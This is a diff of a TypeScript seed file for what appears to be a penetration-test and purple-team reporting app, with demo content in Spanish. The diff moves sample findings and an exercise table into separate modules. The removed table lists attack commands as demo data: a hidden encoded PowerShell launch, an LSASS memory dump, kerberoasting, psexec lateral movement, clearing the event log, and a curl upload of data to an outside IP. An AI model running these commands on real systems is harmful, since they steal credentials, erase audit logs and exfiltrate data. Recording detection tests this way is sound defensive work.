@@ -6,8 +6,10 @@ import type {
   AssessmentKind,
   AssessmentState,
 } from "#features/assessments/contracts/assessment-terms.contract.ts";
-import type { StepBody, ToolFacts } from "#features/assessments/contracts/attack-steps.contract.ts";
+import type { StepBody } from "#features/assessments/contracts/attack-steps.contract.ts";
 import type { DemoCompany } from "../written/demo-company.ts";
+import { roundOf } from "./exercise-steps.ts";
+import { exposedConsole, smbSigning, sqlInjection, weakTls } from "./written-findings.ts";
 
 export interface FindingStory {
   body: FindingBody;
@@ -43,168 +45,11 @@ export interface AssessmentStory {
   steps: readonly StepBody[];
 }
 
-const finding = (
-  title: string,
-  vector: string | null,
-  assets: string[],
-  more: Partial<FindingBody> & { recommendation: string },
-): FindingBody => ({
-  title,
-  vector,
-  assets,
-  summary: "",
-  description: "",
-  references: "",
-  severity: "medium",
-  cwes: [],
-  owasp: "",
-  wstg: "",
-  effort: "medium",
-  ...more,
-});
-
-const sqlInjection = (asset: string) =>
-  finding(
-    "Inyección de SQL en la búsqueda de clientes",
-    "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-    [asset],
-    {
-      summary: "El parámetro de búsqueda llega sin tratar a la base de datos.",
-      description:
-        "Con una comilla simple la aplicación responde con un error de la base. Se leyeron los nombres de 12 tablas; no se extrajeron datos personales.",
-      recommendation:
-        "Usar consultas parametrizadas y quitar a la cuenta de la aplicación los permisos de administración.",
-      cwes: [89],
-      owasp: "A03:2021",
-      wstg: "WSTG-INPV-05",
-    },
-  );
-
-const weakTls = (asset: string) =>
-  finding(
-    "TLS 1.0 y 1.1 habilitados",
-    "CVSS:4.0/AV:N/AC:H/AT:P/PR:N/UI:N/VC:L/VI:L/VA:N/SC:N/SI:N/SA:N",
-    [asset],
-    {
-      summary: "El servicio acepta versiones de TLS retiradas.",
-      recommendation: "Dejar solo TLS 1.2 y 1.3.",
-      cwes: [326],
-      effort: "low",
-    },
-  );
-
-const smbSigning = (assets: string[]) =>
-  finding("Firma de SMB no exigida", "CVSS:3.1/AV:A/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:N", assets, {
-    summary: "Permite retransmitir autenticaciones entre equipos de la red.",
-    recommendation: "Exigir la firma de SMB por directiva y desactivar LLMNR.",
-    cwes: [300],
-  });
-
-const exposedConsole = (asset: string) =>
-  finding(
-    "Consola de administración con credenciales por omisión",
-    "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
-    [asset],
-    {
-      summary: "La consola acepta el usuario y la contraseña de fábrica.",
-      description: "Se ingresó como administrador. No se cambió ninguna configuración.",
-      recommendation:
-        "Cambiar las credenciales, limitar el acceso a la red de administración y exigir un segundo factor.",
-      cwes: [1392],
-      owasp: "A07:2021",
-      effort: "low",
-    },
-  );
-
 const objective =
   "Comprobar qué puede hacer una persona sin credenciales desde internet contra los servicios publicados.";
 const method = "PTES y OWASP WSTG 4.2, con explotación limitada a demostrar el acceso.";
 const rules =
   "Lunes a viernes de 9:00 a 18:00. Sin denegación de servicio ni ingeniería social. Ante una caída se detiene de inmediato.";
-
-const at = (now: Date, daysAgo: number, minutes: number) =>
-  new Date(now.getTime() - daysAgo * 86_400_000 + minutes * 60_000).toISOString();
-
-const tools = (
-  edr: readonly [ToolFacts["logged"], ToolFacts["alerted"], ToolFacts["blocked"]],
-  siem: readonly [ToolFacts["logged"], ToolFacts["alerted"]],
-): ToolFacts[] => [
-  { tool: "EDR", logged: edr[0], alerted: edr[1], blocked: edr[2], detected_at: null },
-  { tool: "SIEM", logged: siem[0], alerted: siem[1], blocked: "unknown", detected_at: null },
-];
-
-/** Techniques of a round, with what each tool did in the first and in the second one. */
-const exercise = [
-  [
-    "Macro que inicia PowerShell",
-    "T1059.001",
-    "powershell -nop -w hidden -enc SQBFAFgA",
-    ["yes", "no", "no"],
-    ["yes", "no"],
-    ["yes", "yes", "yes"],
-    ["yes", "yes"],
-  ],
-  [
-    "Volcado de memoria de LSASS",
-    "T1003.001",
-    "rundll32 comsvcs.dll MiniDump 624 lsass.dmp full",
-    ["yes", "yes", "yes"],
-    ["no", "no"],
-    ["yes", "yes", "yes"],
-    ["yes", "yes"],
-  ],
-  [
-    "Kerberoasting",
-    "T1558.003",
-    "Rubeus.exe kerberoast /outfile:tickets.txt",
-    ["no", "no", "no"],
-    ["no", "no"],
-    ["no", "no", "no"],
-    ["yes", "yes"],
-  ],
-  [
-    "Movimiento lateral por SMB",
-    "T1021.002",
-    "psexec.py administrador@servidor cmd.exe",
-    ["yes", "no", "no"],
-    ["yes", "no"],
-    ["yes", "no", "no"],
-    ["yes", "yes"],
-  ],
-  [
-    "Borrado del registro de eventos",
-    "T1070.001",
-    "wevtutil cl Security",
-    ["no", "no", "yes"],
-    ["no", "no"],
-    ["yes", "no", "yes"],
-    ["no", "no"],
-  ],
-  [
-    "Exfiltración por HTTPS",
-    "T1041",
-    "curl -F file=@datos.zip https://203.0.113.40/subir",
-    ["unknown", "unknown", "unknown"],
-    ["no", "no"],
-    ["unknown", "unknown", "unknown"],
-    ["yes", "no"],
-  ],
-] as const;
-
-const roundOf = (now: Date, round: string, daysAgo: number, target: string, isSecond: boolean): StepBody[] =>
-  exercise.map(([name, technique, command, edrFirst, siemFirst, edrSecond, siemSecond], place) => ({
-    round,
-    name,
-    technique_id: technique,
-    target,
-    source_address: "203.0.113.40",
-    at: at(now, daysAgo, place * 20),
-    ended_at: at(now, daysAgo, place * 20 + 5),
-    expected: "Alerta del EDR o del SIEM en menos de 15 minutos",
-    command,
-    note: "",
-    tools: isSecond ? tools(edrSecond, siemSecond) : tools(edrFirst, siemFirst),
-  }));
 
 /** The assets of a company by the order in which its assessments use them. */
 const assetsOf = ({ assets }: DemoCompany) => assets.map(({ fqdn }) => fqdn);
